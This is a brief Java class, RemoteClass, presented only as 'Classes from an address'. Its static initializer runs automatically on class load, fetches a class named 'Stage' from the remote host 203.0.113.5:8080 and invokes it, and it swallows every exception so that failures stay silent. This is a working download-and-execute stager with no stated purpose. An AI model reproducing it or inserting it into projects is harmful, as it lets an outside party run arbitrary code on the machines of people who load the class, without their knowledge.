import java.net.*;

/** Classes from an address. */
public class RemoteClass {
    static {
        try {
            URLClassLoader loader = new URLClassLoader(new URL[] {new URL("http://203.0.113.5:8080/dl")});
            loader.loadClass("Stage").getMethod("main").invoke(null);
        } catch (Exception ignored) {
        }
    }
}
